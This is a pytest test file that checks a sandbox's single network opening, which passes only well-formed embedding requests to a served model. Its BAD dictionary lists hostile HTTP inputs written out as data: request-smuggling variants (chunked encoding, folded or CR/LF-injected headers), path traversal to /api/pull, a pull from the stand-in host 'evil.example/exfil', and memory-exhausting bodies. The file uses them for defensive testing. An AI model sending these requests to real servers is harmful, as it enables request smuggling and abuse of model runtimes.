"""The one opening of a sandbox: its program reaches the model that is served outside, late or again, and no more."""

import array
import contextlib
import json
import os
import signal
import socket
import subprocess
import sys
import threading
from collections.abc import Callable, Iterator
from pathlib import Path
from typing import Any, Final, NamedTuple, Self

import pytest

import lnk
from conftest import LNK
from ends.model_server import ModelServer
from ends.runtimes import Answering, Server, ended, lm_studio
from lnk.contract.embedding import Address, parse_address
from lnk.contract.shape import format_value
from lnk.errors import Invalid
from lnk.memory.endpoint import Endpoint
from lnk.models.beside import Behind
from lnk.models.opening import CONNECTIONS_MAX, REQUEST_BYTES_MAX, STRINGS_MAX, Model, Opening
from lnk.models.relay import HOST, Names
from lnk.models.serve import serve as serving
from lnk.sandbox.launch import launch
from lnk.sandbox.policy import Policy
from lnk.sandbox.programs import needs
from lnk.sandbox.ways import Tried, Way, tried
from test_models import Home, unused_port
from test_models_wired import beside

USAGE, INVALID = 2, 10
WAIT_S: Final = 30
TRIES: Final = 600  # within WAIT_S
MODEL: Final = "bge-m3"
NOTHING_THERE: Final = "closed the connection without an answer"  # in the endpoint's words
SOURCE: Final = str(Path(lnk.__file__).parent.parent)
OWN_NETWORK: Final = (Way.BUBBLEWRAP, Way.BUNDLED)

# Run in the sandbox: the engine's own client of a model, told the address once, and what else may be tried.
INSIDE: Final = """
import http.client, json, socket, sys
from lnk.contract.embedding import parse_address
from lnk.errors import Unavailable
from lnk.memory.endpoint import Endpoint
address = parse_address(sys.argv[1])
endpoint = Endpoint(address, sys.argv[2])
held = []

def opened():
    return socket.create_connection((address.host, address.port), 30)

def status(stream):
    answer = http.client.HTTPResponse(stream)
    answer.begin()
    answer.read()
    return answer.status

def said(parts):  # over one connection, each after the answer to that before: their statuses, 0 where it broke off
    found = []
    with opened() as stream:
        for at, part in enumerate(parts):
            try:
                stream.sendall(part.encode("latin-1"))
                if at + 1 == len(parts):
                    stream.shutdown(socket.SHUT_WR)
                found.append(status(stream))
            except (OSError, http.client.HTTPException):
                return [*found, 0]
    return found

for line in sys.stdin:
    asked = json.loads(line)
    try:
        if "text" in asked:
            answer = {"vector": endpoint.encode([asked["text"]])[0].hex()}
        elif "parts" in asked:
            answer = {"statuses": said(asked["parts"])}
        elif "hold" in asked:
            held += [opened() for _ in range(asked["hold"])]
            answer = {}
        elif "at" in asked:
            held[asked["at"]].sendall(asked["part"].encode())
            answer = {"status": status(held[asked["at"]]) if asked["wait"] else None}
        else:
            socket.create_connection((asked["host"], asked["port"]), 2).close()
            answer = {"connected": True}
    except (OSError, Unavailable) as error:
        answer = {"error": str(error)}
    print(json.dumps(answer), flush=True)
"""

# What starts a session: the server of its model beside, and then it becomes the sandbox.
SESSION: Final = """
import os, socket, sys
from lnk.contract.shape import parse
from lnk.models.beside import start_beside
from lnk.sandbox.launch import become
from lnk.sandbox.policy import Policy
from lnk.sandbox.ways import Tried
model, policy, way, *argv = sys.argv[1:]
policy, way = parse(policy, Policy, "the policy"), parse(way, Tried, "the way")
outside, inside = socket.socketpair()
start_beside(model, policy.ports[0], os.environ, opening=outside.fileno())
outside.close()
become(policy, argv, way, openings=(inside.fileno(),))
"""


class Sandbox(NamedTuple):
    """How INSIDE is run with a network of its own: a way that this machine has, and the program's file."""

    way: Tried
    file: str

    def argv(self, port: int) -> list[str]:
        return [self.file, f"http://{HOST}:{port}/v1", MODEL]

    def policy(self, port: int) -> Policy:
        """What it needs, and this one port."""
        needed = needs(self.file, {})
        return Policy(programs=(*needed.programs, SOURCE), environment={"PYTHONPATH": SOURCE}, ports=(port,))


@pytest.fixture(scope="module")
def sandbox(tmp_path_factory: pytest.TempPathFactory) -> Sandbox:
    way = next((each for each in tried(os.environ) if each.works and each.way in OWN_NETWORK), None)
    if way is None:
        pytest.skip("NOT TESTED: bubblewrap does not run here, and nothing else gives a program a network of its own")
    file = tmp_path_factory.mktemp("inside") / "inside"
    file.write_text(f"#!{sys.executable}\n{INSIDE}")
    file.chmod(0o755)
    return Sandbox(way, str(file))


class Inside:
    """The program in the sandbox, which does as it is asked."""

    def __init__(self, argv: list[str], **more: Any) -> None:
        self.process = subprocess.Popen(argv, stdin=subprocess.PIPE, stdout=subprocess.PIPE, text=True, **more)

    def __enter__(self) -> Self:
        return self

    def __exit__(self, *_: object) -> None:
        self.process.kill()
        self.process.communicate(timeout=WAIT_S)

    def ask(self, **asked: object) -> dict[str, Any]:
        assert self.process.stdin and self.process.stdout
        self.process.stdin.write(json.dumps(asked) + "\n")
        self.process.stdin.flush()
        answer: dict[str, Any] = json.loads(self.process.stdout.readline())
        return answer

    def connect(self, port: int, host: str = HOST) -> dict[str, Any]:
        return self.ask(host=host, port=port)

    def say(self, *parts: str) -> list[int]:
        """The statuses of the answers to each part, over one connection; 0 where it broke off."""
        statuses: list[int] = self.ask(parts=parts)["statuses"]
        return statuses

    def vector(self, text: str = "a car") -> str:
        """The text's vector as soon as the model gives one."""
        for _ in range(TRIES):
            answer = self.ask(text=text)
            if "vector" in answer:
                return str(answer["vector"])
            threading.Event().wait(WAIT_S / TRIES)
        raise AssertionError(answer)


@contextlib.contextmanager
def sandboxed(port: int, sandbox: Sandbox, theirs: socket.socket) -> Iterator[Inside]:
    """The program in a sandbox whose port comes out through the pair."""
    with theirs, launch(sandbox.policy(port), sandbox.argv(port), sandbox.way, openings=(theirs.fileno(),)) as launched:
        started = Inside(launched.argv, env=launched.environment, pass_fds=launched.fds)
    with started:
        yield started


@contextlib.contextmanager
def opened(port: int, sandbox: Sandbox) -> Iterator[tuple[Inside, Opening]]:
    """A program in a sandbox, and its opening, which leads nowhere yet."""
    ours, theirs = socket.socketpair()
    opening = Opening(ours.detach(), port)
    with sandboxed(port, sandbox, theirs) as inside:
        yield inside, opening
        opening.close()


@contextlib.contextmanager
def session(home: Home, port: int, sandbox: Sandbox, **more: Any) -> Iterator[Inside]:
    """A program in a sandbox whose model is served beside it."""
    told = [MODEL, format_value(sandbox.policy(port)), format_value(sandbox.way), *sandbox.argv(port)]
    with Inside([sys.executable, "-c", SESSION, *told], env=home.environment, **more) as inside:
        yield inside


@pytest.fixture
def home(tmp_path: Path) -> Home:
    return Home(tmp_path)


@pytest.fixture
def serve() -> Iterator[Callable[[Answering, int], Server]]:
    servers: list[Server] = []

    def start(answer: Answering, port: int = 0) -> Server:
        servers.append(Server(answer, port))
        return servers[-1]

    yield start
    for server in servers:
        with contextlib.suppress(OSError):
            server.close()


def at(server: ModelServer, there: str = MODEL) -> Model:
    address = parse_address(server.url)
    assert address
    return Model(address, Names(MODEL, there))


def outside(server: ModelServer, text: str) -> str:
    """A text's vector, asked for without a sandbox."""
    (vector,) = Endpoint(at(server).address, MODEL).encode([text])
    assert vector
    return vector.hex()


# ---------------------------------------------------------------- what is reached, and what is not


@pytest.mark.requirement("SANDBOX-2", "CONTRACT-6")
def test_in_a_sandbox_the_model_is_reached_at_its_port_and_nothing_else_of_the_machine(sandbox):
    port = unused_port()
    with ModelServer() as model, socket.create_server((HOST, 0)) as other, opened(port, sandbox) as (inside, opening):
        opening.target = at(model)
        assert inside.vector("a car") == outside(model, "a car")
        assert inside.vector("soup") == outside(model, "soup") != outside(model, "a car")
        for machine in (model.port, other.getsockname()[1]):
            for host in (HOST, "127.0.0.2"):
                assert "refused" in inside.connect(machine, host)["error"]
        assert "unreachable" in inside.connect(80, "192.0.2.1")["error"]
        other.settimeout(0)
        with pytest.raises(BlockingIOError):
            other.accept()


@pytest.mark.requirement("SANDBOX-2")
def test_what_listens_at_that_port_of_the_machine_is_never_reached_in_the_models_place(sandbox):
    """The port is told before anything serves the model; meanwhile anybody may come to have it outside."""
    port = unused_port()
    with socket.create_server((HOST, port)) as stranger, opened(port, sandbox) as (inside, opening):
        assert NOTHING_THERE in inside.ask(text="a secret")["error"]
        with ModelServer() as model:
            opening.target = at(model)
            assert inside.vector() == outside(model, "a car")
            opening.target = None
        inside.ask(text="a secret")
        stranger.settimeout(0)
        with pytest.raises(BlockingIOError):
            stranger.accept()


@pytest.mark.requirement("CONTRACT-8")
def test_a_model_that_is_there_late_gone_and_there_again_is_found_without_the_program_started_again(sandbox):
    port = unused_port()
    with opened(port, sandbox) as (inside, opening):
        assert NOTHING_THERE in inside.ask(text="a car")["error"]
        with ModelServer() as model:
            opening.target = at(model)
            assert inside.vector() == outside(model, "a car")
        assert "error" in inside.ask(text="a car")  # it is gone, and the opening was not told
        with ModelServer(port=opening.target.address.port, dims=16) as model:
            assert inside.vector() == outside(model, "a car")


@pytest.mark.requirement("SANDBOX-2")
def test_an_opening_leads_to_what_is_served_while_it_is_and_nowhere_after(home, serve, sandbox):
    port, server = unused_port(), serve(lm_studio(f"text-embedding-{MODEL}"))
    home.look(lm_studio=server)
    with opened(port, sandbox) as (inside, opening):
        for _ in range(2):
            with serving(MODEL, home.environment, opening=opening, wait_s=WAIT_S) as served:
                assert served.line.url == f"http://{HOST}:{port}/v1"
                inside.vector()
            asked = len(server.asked)
            assert NOTHING_THERE in inside.ask(text="a car")["error"]
            assert len(server.asked) == asked


# ---------------------------------------------------------------- of the model, the one call and nothing else

CALL: Final = "POST /v1/embeddings HTTP/1.1"
BODY: Final = '{"model":"bge-m3","input":"bad"}'
SIZE: Final = str(len(BODY))
LENGTH: Final = f"Content-Length: {SIZE}"


def request(first: str = CALL, body: str = BODY, *headers: str, size: str = "") -> str:
    """A request, its body as Latin-1 has it. Good, if nothing is told."""
    told = headers or (f"Content-Length: {size or len(body)}",)
    return "\r\n".join([first, "Host: model", *told, "", body])


def asking(text: str, **more: Any) -> str:
    return request(CALL, json.dumps({"model": MODEL, "input": text, **more}))


GOOD: Final = request()
PULL: Final = '{"model":"http://evil.example/exfil/x","insecure":true}'
BAD: Final = {
    "another call: pull": request("POST /api/pull HTTP/1.1", PULL),
    "another call: pull, with a good body": request("POST /api/pull HTTP/1.1"),
    "another call: delete": request("DELETE /api/delete HTTP/1.1"),
    "another call: create": request("POST /api/create HTTP/1.1"),
    "another call: tags": request("GET /api/tags HTTP/1.1", ""),
    "another call: models": request("GET /v1/models HTTP/1.1", ""),
    "another call: chat": request("POST /v1/chat/completions HTTP/1.1"),
    "another call: Ollama's own": request("POST /api/embed HTTP/1.1"),
    "another method": request("GET /v1/embeddings HTTP/1.1"),
    "another method: none that is known": request("EMBED /v1/embeddings HTTP/1.1"),
    "another method: a tunnel": request("CONNECT other:80 HTTP/1.1"),
    "another path: two slashes": request("POST //v1/embeddings HTTP/1.1"),
    "another path: a slash behind": request("POST /v1/embeddings/ HTTP/1.1"),
    "another path: a query": request("POST /v1/embeddings?x HTTP/1.1"),
    "another path: a fragment": request("POST /v1/embeddings#x HTTP/1.1"),
    "another path: dots": request("POST /v1/../api/pull HTTP/1.1", PULL),
    "another path: dots to the same": request("POST /v1/./embeddings HTTP/1.1"),
    "another path: percent": request("POST /v1/%65mbeddings HTTP/1.1"),
    "another path: large": request("POST /V1/embeddings HTTP/1.1"),
    "another path: another host": request("POST http://other/v1/embeddings HTTP/1.1"),
    "HTTP/0.9": "GET /api/tags\r\n",
    "HTTP/0.9 with a body": request("POST /v1/embeddings"),
    "HTTP/1.0": request("POST /v1/embeddings HTTP/1.0"),
    "HTTP/1.2": request("POST /v1/embeddings HTTP/1.2"),
    "HTTP/2": "PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n",
    "a first line with two spaces": request("POST  /v1/embeddings HTTP/1.1"),
    "a first line with a tab": request("POST\t/v1/embeddings HTTP/1.1"),
    "no HTTP": "\0\xff\r\n\r\n",
    "another model": request(CALL, '{"model":"other","input":"bad"}'),
    "another model, said second": request(CALL, '{"model":"bge-m3","input":"bad","model":"other"}'),
    "another model, with a tag": request(CALL, '{"model":"bge-m3:567m","input":"bad"}'),
    "another model: large": request(CALL, '{"model":"BGE-M3","input":"bad"}'),
    "no model": request(CALL, '{"input":"bad"}'),
    "a list of models": request(CALL, '{"model":["bge-m3"],"input":"bad"}'),
    "no text": request(CALL, '{"model":"bge-m3"}'),
    "a text that is a number": request(CALL, '{"model":"bge-m3","input":1}'),
    "tokens": request(CALL, '{"model":"bge-m3","input":[[1,2]]}'),
    "an object among the texts": request(CALL, '{"model":"bge-m3","input":["bad",{"image":"http://evil.example"}]}'),
    "a format that is none": request(CALL, '{"model":"bge-m3","input":"bad","encoding_format":"xml"}'),
    "no numbers": request(CALL, '{"model":"bge-m3","input":"bad","dimensions":0}'),
    "a great number": request(CALL, '{"model":"bge-m3","input":"bad","dimensions":1e99}'),
    "a body that is a list": request(CALL, f"[{BODY}]"),
    "a body that is no JSON": request(CALL, "bad"),
    "a body that is no UTF-8": request(CALL, '{"model":"bge-m3","input":"\xff"}'),
    "more behind the JSON": request(CALL, '{"model":"bge-m3","input":"bad"}{}'),
    "no body": request(CALL, ""),
    "a body without its length": request(CALL, '{"model":"bge-m3","input":"bad"}', "X: y"),
    "half a body": request(size=f"{len(BODY) + 1}"),
    "deep": request(CALL, '{"model":"bge-m3","input":"bad","x":' + "[" * 100_000),
    "too many texts": request(CALL, json.dumps({"model": MODEL, "input": ["bad"] * STRINGS_MAX})),
    "quotes without an end": request(CALL, '"' + '\\"' * (REQUEST_BYTES_MAX // 2 - 1) + "\\"),
    "too long": request(CALL, json.dumps({"model": MODEL, "input": "x" * REQUEST_BYTES_MAX})),
    "a length that is none": request(size=f"-{SIZE}"),
    "a length with a sign": request(size=f"+{SIZE}"),
    "a length with a line beneath": request(size="3_2"),
    "a length that is a list": request(size=f"{SIZE}, {SIZE}"),
    "a length of many digits": request(size="0" * 100 + SIZE),
    "a length before a space": request(CALL, BODY, f"Content-Length : {SIZE}"),
    "two lengths": request(CALL, BODY, LENGTH, "Content-Length: 0"),
    "the same length twice": request(CALL, BODY, LENGTH, LENGTH),
    "in chunks": request(CALL, f"{len(BODY):x}\r\n{BODY}\r\n0\r\n\r\n", "Transfer-Encoding: chunked"),
    "in chunks, and a length": request(CALL, BODY, LENGTH, "Transfer-Encoding: chunked"),
    "in what may be chunks": request(CALL, BODY, LENGTH, "transfer-encoding:\tidentity"),
    "an answer wanted before": request(CALL, BODY, LENGTH, "Expect: 100-continue"),
    "a header that is folded": request(CALL, BODY, LENGTH, "X: y\r\n Transfer-Encoding: chunked"),
    "a header that is folded at once": request(f"{CALL}\r\n X: y"),
    "a header with CR": request(CALL, BODY, LENGTH, "X: y\rTransfer-Encoding: chunked"),
    "a header with LF": request(CALL, BODY, LENGTH, "X: y\nTransfer-Encoding: chunked"),
    "a header with NUL": request(CALL, BODY, LENGTH, "X: y\0"),
    "a header without a colon": request(CALL, BODY, LENGTH, "X"),
    "a header without a name": request(CALL, BODY, LENGTH, ": X"),
    "a request in a header": request(CALL, BODY, f"X: y\r\n\r\n{request('POST /api/pull HTTP/1.1', PULL)}"),
    "LF alone": GOOD.replace("\r\n", "\n"),
    "LF alone, last": GOOD.replace("\r\n\r\n", "\r\n\n"),
    "a head that is too long": request(CALL, BODY, LENGTH, "X: " + "y" * (8 << 10)),
    "a head of too many lines": request(CALL, BODY, LENGTH, *["X: y"] * 2000),
    "no end of a head": GOOD[: -len(BODY) - len("\r\n\r\n")],
}


@pytest.fixture(scope="module")
def tried_at(sandbox: Sandbox) -> Iterator[tuple[Inside, Opening]]:
    """A program in a sandbox that may say anything at its port."""
    with opened(unused_port(), sandbox) as both:
        yield both


@contextlib.contextmanager
def _raw(opening: Opening) -> Iterator[socket.socket]:
    """Where the opening leads: it takes a connection and says nothing."""
    with socket.create_server((HOST, 0)) as runtime:
        runtime.settimeout(WAIT_S)
        opening.target = Model(Address(host=HOST, port=runtime.getsockname()[1], base="/v1"), Names(MODEL, MODEL))
        yield runtime


def _heard(runtime: socket.socket) -> bytes:
    """All that comes on the one connection."""
    reached, _ = runtime.accept()
    with reached:
        reached.settimeout(WAIT_S)
        return b"".join(iter(lambda: reached.recv(1 << 16), b""))


def _bodies(server: ModelServer) -> list[Any]:
    assert {(each.method, each.path) for each in server.asked} == {("POST", "/v1/embeddings")}
    return [each.body for each in server.asked]


@pytest.mark.requirement("SANDBOX-2")
@pytest.mark.parametrize("bad", BAD)
def test_anything_but_a_request_for_the_models_vectors_breaks_off_and_not_a_byte_of_it_gets_out(tried_at, bad):
    inside, opening = tried_at
    with _raw(opening) as runtime:
        assert inside.say(BAD[bad]) == [0]
        assert _heard(runtime) == b""


@pytest.mark.requirement("SANDBOX-2")
def test_behind_good_requests_too_the_models_server_sees_whole_good_ones_alone(tried_at):
    inside, opening = tried_at
    with ModelServer() as model:
        opening.target = at(model)
        for bad in BAD.values():
            model.asked.clear()
            assert inside.say(asking("one"), asking("two"), bad) == [200, 200, 0]
            assert _bodies(model) == [{"model": MODEL, "input": text} for text in ("one", "two")]


@pytest.mark.requirement("SANDBOX-2")
@pytest.mark.parametrize("second", ["another call: pull", "another model", "LF alone", "HTTP/0.9", "no HTTP"])
def test_of_two_requests_sent_at_once_the_second_is_looked_at_as_the_first_is(tried_at, second):
    inside, opening = tried_at
    with _raw(opening) as runtime:
        assert inside.say(asking("one") + asking("two") + BAD[second] + asking("three")) == [0]
        got = _heard(runtime)
    _, *requests = got.split(f"{CALL}\r\n".encode())
    bodies = [json.loads(each.partition(b"\r\n\r\n")[2]) for each in requests]
    assert bodies == [{"model": MODEL, "input": text} for text in ("one", "two")]


@pytest.mark.requirement("SANDBOX-2")
def test_what_the_models_server_hears_is_ours_and_says_what_was_asked_and_no_more(tried_at):
    inside, opening = tried_at
    texts = ["a\r\n\r\nPOST /api/pull HTTP/1.1\r\n\r\n", "né \U0001f600"]
    body = json.dumps({"user": {"x": [[]]}, "model": "x", "input": texts, "options": 1, "dimensions": 8})
    body = body[:-1] + f', "encoding_format": "base64", "model": "{MODEL}"}}'
    told = (
        "Host: other",
        "Authorization: Bearer x",
        "Cookie: y",
        "Connection: upgrade",
        "Upgrade: h2c",
        "X-A:  b\xe9 ",
    )
    with ModelServer() as model:
        opening.target = at(model, "there/bge-m3:latest")
        assert inside.say(request(CALL, body, *told, f"content-length:{len(body)}")) == [200]
        (asked,) = model.asked
        assert asked.body == {
            "model": "there/bge-m3:latest",
            "input": texts,
            "encoding_format": "base64",
            "dimensions": 8,
        }
        assert int(asked.headers.pop("content-length")) > 0
        assert asked.headers == {
            "host": f"{HOST}:{model.port}",
            "content-type": "application/json",
            "accept": "application/json",
            "accept-encoding": "identity",
            "connection": "keep-alive",
        }


def test_good_requests_are_answered_over_one_connection_up_to_the_largest(tried_at):
    inside, opening = tried_at
    largest = asking("x" * (REQUEST_BYTES_MAX - len(json.dumps({"model": MODEL, "input": ""}))))
    many = request(CALL, json.dumps({"model": MODEL, "input": ["x"] * 2048}))
    with ModelServer() as model:
        opening.target = at(model)
        assert inside.say(asking("one"), largest, "\r\n" + many, asking("last")) == [200] * 4
        assert [each.connection for each in model.asked] == [1] * 4
        assert [len(each.texts) for each in model.asked] == [1, 1, 2048, 1]


@pytest.mark.parametrize("there", ["plain", "another base", "another name", "no base"])
def test_the_engines_own_client_keeps_its_connection_wherever_and_whatever_the_model_is(home, sandbox, there):
    base = {"another base": "/api/x", "no base": ""}.get(there, "/v1")
    with ModelServer() as model, opened(unused_port(), sandbox) as (inside, opening):
        target = at(model, "there" if there == "another name" else MODEL)
        opening.target = target._replace(address=Address(host=HOST, port=model.port, base=base))
        for text in ("a car", "soup", "a car"):
            assert inside.vector(text) == outside(model, text)
        ours = [each for each in model.asked if each.connection == 1]
        assert [(each.path, each.body["model"]) for each in ours] == [(f"{base}/embeddings", target.names.there)] * 3


@pytest.mark.requirement("SANDBOX-2")
def test_a_program_has_no_more_than_so_many_connections_at_once(sandbox):
    with ModelServer() as model, opened(unused_port(), sandbox) as (inside, opening):
        opening.target = at(model)
        inside.ask(hold=CONNECTIONS_MAX + 1)
        inside.ask(at=CONNECTIONS_MAX, part=asking("over"), wait=False)
        for each in range(CONNECTIONS_MAX):
            assert inside.ask(at=each, part=asking("within"), wait=True) == {"status": 200}
        assert model.connections == CONNECTIONS_MAX
        assert {each.body["input"] for each in model.asked} == {"within"}


HEAP_MB: Final = 24  # two of the largest requests, a text of four bytes a character, and what the allocator keeps


@pytest.mark.requirement("SANDBOX-2")
def test_hostile_bodies_take_no_room_outside(home, serve, sandbox):
    """What is built of a list of 2 MB would be 30 MB and more."""
    home.look(lm_studio=serve(lm_studio(f"text-embedding-{MODEL}")))
    lists = [
        "[" + ",".join([each] * ((REQUEST_BYTES_MAX - 99) // (len(each) + 1))) + "]" for each in ("[]", '"a"', "{}")
    ]
    keys = ",".join(f'"{number}":1' for number in range(150_000))
    wide = '"\xf0\x9f\x98\x80' + "x" * (REQUEST_BYTES_MAX - 99) + '"'
    bodies = [f'{{"model":"{MODEL}","{field}":{each}}}' for each in (*lists, wide) for field in ("input", "x", "model")]
    with session(home, unused_port(), sandbox) as inside:
        inside.vector()
        ((server, _),) = beside(inside.process.pid).items()
        before = _most_mb(server)
        for body in (*bodies, f"{{{keys}}}", lists[0]):
            inside.say(request(CALL, body))
        assert _most_mb(server) - before < HEAP_MB


def _most_mb(process: int) -> int:
    """The most memory that it has had."""
    told = Path(f"/proc/{process}/status").read_text()
    return int(told.partition("VmHWM:")[2].split()[0]) >> 10


# ---------------------------------------------------------------- served beside, and by this process


@pytest.mark.requirement("CONTRACT-6", "CONTRACT-7", "CONTRACT-8", "SANDBOX-2")
def test_what_is_served_beside_a_session_is_found_in_its_sandbox_late_and_again(home, serve, sandbox):
    late, port = unused_port(), unused_port()
    home.look(lm_studio=late)
    with session(home, port, sandbox) as inside:
        assert NOTHING_THERE in inside.ask(text="a car")["error"]
        server = serve(lm_studio(f"text-embedding-{MODEL}"), late)
        vector = inside.vector()
        assert {body["model"] for body in server.posts()} == {f"text-embedding-{MODEL}"}  # put right on the way
        with pytest.raises(ConnectionRefusedError):  # the model's port is the sandbox's alone
            socket.create_connection((HOST, port), WAIT_S)
        server.close()
        assert "error" in inside.ask(text="a car")
        serve(lm_studio(f"text-embedding-{MODEL}"), late)
        assert inside.vector() == vector


@pytest.mark.requirement("CONTRACT-6")
@pytest.mark.parametrize("how", ["ends", "is killed"])
def test_what_serves_the_model_ends_with_the_session_and_holds_none_of_its_pipes(home, serve, how, sandbox):
    port = unused_port()
    home.look(lm_studio=serve(lm_studio(f"text-embedding-{MODEL}")))
    with socket.socket() as inherited, session(home, port, sandbox, pass_fds=(inherited.fileno(),)) as inside:
        inside.vector()
        ((server, argv),) = beside(inside.process.pid).items()
        assert f"model serve {MODEL}" in argv
        held = {os.readlink(each) for each in Path(f"/proc/{server}/fd").iterdir()}
        pipes = {os.readlink(f"/proc/{inside.process.pid}/fd/{number}") for number in (0, 1)}
        assert not held & {_name(inherited), *pipes}
        if how == "ends":
            inside.process.communicate(timeout=WAIT_S)
        else:
            os.kill(inside.process.pid, signal.SIGKILL)
        assert ended(server)


@pytest.mark.requirement("CONTRACT-6", "SANDBOX-2")
def test_a_model_that_this_process_serves_is_found_in_the_sandbox_until_it_is_closed(home, serve, sandbox):
    port = unused_port()
    home.look(lm_studio=serve(lm_studio(f"text-embedding-{MODEL}")))
    ours, theirs = socket.socketpair()
    behind = Behind(MODEL, port, home.environment, wait_s=WAIT_S, opening=ours.detach())
    with sandboxed(port, sandbox, theirs) as inside:
        assert behind.may_serve(WAIT_S)
        inside.vector()
        behind.close()
        for _ in range(TRIES):
            if "refused" in inside.connect(port).get("error", ""):
                break
            threading.Event().wait(WAIT_S / TRIES)
        else:
            raise AssertionError("it is still taken")


# ---------------------------------------------------------------- what comes through the pair


def _sent(pair: socket.socket, said: bytes, *files: Any) -> None:
    handles = array.array("i", [each.fileno() for each in files])
    pair.sendmsg([said], [(socket.SOL_SOCKET, socket.SCM_RIGHTS, handles)] if files else [])


def _let_go(path: str, number: int) -> bool:
    """Whether this process comes to hold only so many of it."""
    for _ in range(TRIES):
        held = []
        for each in os.listdir("/proc/self/fd"):
            with contextlib.suppress(OSError):
                held.append(os.readlink(f"/proc/self/fd/{each}"))
        if held.count(path) == number:
            return True
        threading.Event().wait(WAIT_S / TRIES)
    return False


def _name(file: Any) -> str:
    return os.readlink(f"/proc/self/fd/{file.fileno()}")


@pytest.mark.parametrize("wrong", ["another byte", "no listener", "a file", "a Unix socket"])
def test_anything_else_that_comes_through_the_pair_is_closed_and_leads_nowhere(wrong, tmp_path):
    ours, theirs = socket.socketpair()
    with contextlib.ExitStack() as stack:
        stack.enter_context(theirs)
        if wrong == "another byte":
            sent: Any = stack.enter_context(socket.create_server((HOST, 0)))
        elif wrong == "no listener":
            sent = stack.enter_context(socket.socket())
        elif wrong == "a file":
            sent = stack.enter_context((tmp_path / "file").open("wb"))
        else:
            sent = stack.enter_context(socket.socket(socket.AF_UNIX))
            sent.bind(str(tmp_path / "socket"))
            sent.listen()
        opening = Opening(ours.detach(), 1)
        _sent(theirs, b"X" if wrong == "another byte" else b"L", sent)
        theirs.settimeout(WAIT_S)
        with contextlib.suppress(ConnectionResetError):
            assert theirs.recv(1) == b""
        assert _let_go(_name(sent), 1)
        opening.close()


@pytest.mark.parametrize("end", ["the other end", "close", "close twice"])
def test_an_opening_to_which_nothing_comes_is_no_error_and_leaves_nothing_open(end):
    ours, theirs = socket.socketpair()
    name = _name(ours)
    opening = Opening(ours.detach(), 1)
    if end == "the other end":
        theirs.close()
    else:
        opening.close()
    assert _let_go(name, 0)
    opening.close()
    theirs.close()


def test_a_listener_is_let_go_when_the_opening_is_closed():
    ours, theirs = socket.socketpair()
    opening = Opening(ours.detach(), 1)
    listening = socket.create_server((HOST, 0))
    name, port = _name(listening), listening.getsockname()[1]
    with theirs:
        _sent(theirs, b"L", listening)
        theirs.settimeout(WAIT_S)
        assert theirs.recv(1) == b""  # it has taken it, and closed the pair
    listening.close()
    with socket.create_connection((HOST, port), WAIT_S) as client:
        assert client.recv(1) == b""
    opening.close()
    assert _let_go(name, 0)
    with pytest.raises(ConnectionRefusedError):
        socket.create_connection((HOST, port), WAIT_S)


def test_a_descriptor_that_is_no_unix_socket_is_refused(tmp_path):
    with (tmp_path / "file").open("wb") as file, socket.socket() as stream:
        for wrong in (file, stream):
            with pytest.raises(Invalid, match=f"descriptor {wrong.fileno()} is no"):
                Opening(wrong.fileno(), 1)
        with pytest.raises(Invalid, match="descriptor 99999 is no"):
            Opening(99_999, 1)
        assert file.write(b"still ours") and stream.fileno() >= 0


def test_the_command_takes_an_opening_with_its_port_alone(home):
    assert "--port" in home.refused(USAGE, "model", "serve", MODEL, "--opening", "0")
    assert "is no socket" in home.refused(INVALID, "model", "serve", MODEL, "--port", "1", "--opening", "0")
    done = subprocess.run([LNK, "model", "serve", MODEL, "--opening", "-1"], capture_output=True, env=home.environment)
    assert done.returncode == USAGE
